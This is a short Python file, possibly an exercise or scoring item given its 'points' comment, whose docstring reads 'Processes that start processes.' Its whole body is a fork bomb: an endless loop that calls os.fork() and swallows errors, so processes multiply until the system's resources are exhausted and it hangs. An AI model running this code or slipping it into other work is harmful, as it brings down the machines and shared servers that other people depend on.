"""Processes that start processes."""
# points: 0 0

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
